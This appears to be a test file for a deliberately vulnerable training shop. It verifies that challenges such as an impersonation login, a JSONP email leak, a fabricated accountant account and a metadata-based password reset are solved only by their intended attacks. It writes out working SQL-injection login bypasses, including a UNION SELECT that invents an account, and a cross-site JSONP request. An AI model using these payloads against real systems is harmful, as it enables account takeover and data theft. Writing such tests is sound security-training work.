import { decode } from 'jsonwebtoken';
import { startTestShop, type TestShop } from '../helpers';
import { INES } from '../shop-helpers';
import { expectNotSolved, exploit, isFixedIn } from '../challenges';

/**
 * Batch 1, logins as someone else: each block logs in honestly first (nothing solved), then the
 * way a trainee would, and asserts through GET /api/Challenges that the challenge is solved.
 */
let shop: TestShop;

beforeEach(async () => {
  shop = await startTestShop();
});

afterEach(async () => {
  await shop.close();
});

const login = (email: string, password: string) => shop.app.inject({ method: 'POST', url: '/rest/user/login', payload: { email, password } });
const tokenEmail = (token: string) => (decode(token) as { data: { email: string } }).data.email;

describe('Login Ines (loginBenderChallenge)', () => {
  it('Ines logging in with her own password, or a wrong one, solves nothing', async () => {
    expect((await login(INES.email, INES.password)).statusCode).toBe(200);
    expect((await login(INES.email, 'not-her-password')).statusCode).toBe(401);
    expect((await login("jonas@pulp.shop'--", 'x')).statusCode).toBe(isFixedIn(shop, 'loginJonasChallenge') ? 401 : 200);
    await expectNotSolved(shop, 'loginBenderChallenge');
  });

  it('her address is on her reviews, and the injection logs in as her without the password', async () => {
    const search = await shop.app.inject({ method: 'GET', url: `/rest/products/search?q=${encodeURIComponent('Hacking the Juice Bar')}` });
    const handbook = search.json().data[0] as { id: number };
    const reviews = (await shop.app.inject({ method: 'GET', url: `/rest/products/${handbook.id}/reviews` })).json().data as { author: string }[];
    expect(reviews.map((review) => review.author)).toContain(INES.email);
    await exploit(shop, 'loginBenderChallenge', async () => {
      const response = await login(`${INES.email}'--`, 'anything');
      expect(response.statusCode).toBe(200);
      expect(tokenEmail(response.json().authentication.token)).toBe(INES.email);
    });
    await expectNotSolved(shop, 'loginAdminChallenge');
  });
});

describe('Email Leak', () => {
  const whoami = (query: string, headers: Record<string, string> = {}) => shop.app.inject({ method: 'GET', url: `/rest/user/whoami${query}`, headers });

  it('the shop asking who is logged in, or JSONP without a session, leaks nothing; bad callbacks are refused', async () => {
    const { token, headers } = await shop.login(INES.email, INES.password);
    const plain = await whoami('', headers);
    expect(plain.json().user.email).toBe(INES.email);
    expect((await whoami('', { cookie: `token=${token}` })).json().user.email).toBe(INES.email);
    const anonymous = await whoami('?callback=leak');
    expect(anonymous.statusCode).toBe(200);
    // Where the fix runs (hardened), whoami answers JSON, callback or not.
    expect(anonymous.body).toBe(isFixedIn(shop, 'emailLeakChallenge') ? '{"user":{}}' : `/**/ typeof leak === 'function' && leak({"user":{}});`);
    for (const callback of ['alert(1)//', '<script>', '1abc']) expect((await whoami(`?callback=${encodeURIComponent(callback)}`, { cookie: `token=${token}` })).statusCode).toBe(400);
    await expectNotSolved(shop, 'emailLeakChallenge');
  });

  it('JSONP with the session cookie, as a script tag on another site loads it, hands out the email', async () => {
    const { token } = await shop.login(INES.email, INES.password);
    await exploit(shop, 'emailLeakChallenge', async () => {
      const response = await whoami('?callback=leak', { cookie: `token=${token}`, referer: 'http://attacker.test/', 'sec-fetch-dest': 'script', 'sec-fetch-site': 'cross-site' });
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toMatch(/^application\/javascript/);
      let leaked: { user: { email?: string } } | undefined;
      new Function('leak', response.body)((data: typeof leaked) => (leaked = data));
      expect(leaked?.user.email).toBe(INES.email);
    });
  });
});

describe('Ephemeral Accountant', () => {
  const row = (email: string, role: string, id = 4242) => `x' UNION SELECT ${id}, 'acc0unt4nt', '${email}', 'x', '${role}', '', '0.0.0.0', '', '', 1, '', '', NULL--`;
  const staffOrders = (token: string) => shop.app.inject({ method: 'GET', url: '/rest/order-history/orders', headers: { authorization: `Bearer ${token}` } });

  it('the real accountant, a registered look-alike and made-up rows for others get no ephemeral session', async () => {
    const ledger = await login('ledger@pulp.shop', 'Bal4nce-Sheet!');
    expect(ledger.statusCode).toBe(200);
    expect((await login(row('evil@pulp.shop', 'accounting'), 'x')).statusCode).toBe(401);
    expect((await login(row('acc0unt4nt@pulp.shop', 'admin'), 'x')).statusCode).toBe(401);
    // A made-up row with a real account's id is read back as that account, not believed.
    const withRealId = await login(row('acc0unt4nt@pulp.shop', 'accounting', 1), 'x');
    if (isFixedIn(shop, 'ephemeralAccountantChallenge')) expect(withRealId.statusCode).toBe(401);
    else expect(tokenEmail(withRealId.json().authentication.token)).toBe('admin@pulp.shop');
    // Registering the address and logging in with it is not "without ever registering".
    expect((await shop.app.inject({ method: 'POST', url: '/api/Users', payload: { email: 'acc0unt4nt@pulp.shop', password: 'Numb3rs!', passwordRepeat: 'Numb3rs!' } })).statusCode).toBe(201);
    expect((await login('acc0unt4nt@pulp.shop', 'Numb3rs!')).statusCode).toBe(200);
    expect((await login(row('acc0unt4nt@pulp.shop', 'accounting'), 'x')).statusCode).toBe(401);
    await expectNotSolved(shop, 'ephemeralAccountantChallenge');
  });

  it('a UNION that makes up the accountant logs in as that accountant, with the accounting role', async () => {
    await exploit(shop, 'ephemeralAccountantChallenge', async () => {
      const response = await login(row('acc0unt4nt@pulp.shop', 'accounting'), 'anything');
      expect(response.statusCode).toBe(200);
      const token = response.json().authentication.token as string;
      expect(tokenEmail(token)).toBe('acc0unt4nt@pulp.shop');
      expect((await staffOrders(token)).statusCode).toBe(200);
    });
    await expectNotSolved(shop, 'loginAdminChallenge');
  });
});

describe('Meta Geo Stalking', () => {
  const post = (url: string, payload: Record<string, unknown>) => shop.app.inject({ method: 'POST', url, payload });
  const reset = (email: string, answer: string) => post('/rest/user/reset-password', { email, answer, new: 'Brand-New1', repeat: 'Brand-New1' });
  const FENNA = 'fenna@pulp.shop';

  it('wrong guesses from what the picture shows, and other resets, solve nothing', async () => {
    for (const guess of ['Norway', 'the sea', 'Mountains']) expect((await reset(FENNA, guess)).statusCode).toBe(401);
    expect((await reset('mira@pulp.shop', 'Kumquat')).statusCode).toBe(200);
    await expectNotSolved(shop, 'geoStalkingMetaChallenge');
  });

  it("the metadata of Fenna's holiday picture answers her question, and the reset solves it", async () => {
    const question = (await shop.app.inject({ method: 'GET', url: `/rest/user/security-question?email=${FENNA}` })).json().question;
    expect(question.question).toMatch(/best holiday/);
    const memories = (await shop.app.inject({ method: 'GET', url: '/rest/memories' })).json().data as { caption: string; imagePath: string; User: { username: string } }[];
    const photo = memories.find((memory) => memory.User.username === 'fenna' && /holiday/i.test(memory.caption));
    expect(photo).toBeDefined();
    await exploit(shop, 'geoStalkingMetaChallenge', async () => {
      const picture = (await shop.app.inject({ method: 'GET', url: `/${photo?.imagePath}` })).body;
      // Nothing in the drawing names the place; the file's metadata does.
      expect(picture.replace(/<metadata>[\s\S]*<\/metadata>/, '')).not.toMatch(/Lofoten/);
      const region = /<photoshop:State>([^<]+)<\/photoshop:State>/.exec(picture)?.[1];
      expect(region).toBe('Lofoten');
      expect((await reset(FENNA, region as string)).statusCode).toBe(200);
    });
  });

  it('hardened: her holiday picture is the same drawing, without the metadata her camera wrote', async () => {
    const memories = (await shop.app.inject({ method: 'GET', url: '/rest/memories' })).json().data as { caption: string; imagePath: string; User: { username: string } }[];
    const photo = memories.find((memory) => memory.User.username === 'fenna' && /holiday/i.test(memory.caption));
    const picture = await shop.app.inject({ method: 'GET', url: `/${photo?.imagePath}` });
    expect(picture.statusCode).toBe(200);
    expect(picture.body).toContain('aria-label="Holiday"');
    if (isFixedIn(shop, 'geoStalkingMetaChallenge')) expect(picture.body).not.toMatch(/<metadata|Lofoten|Reine|GPS/);
    else expect(picture.body).toContain('<photoshop:State>Lofoten</photoshop:State>');
  });
});
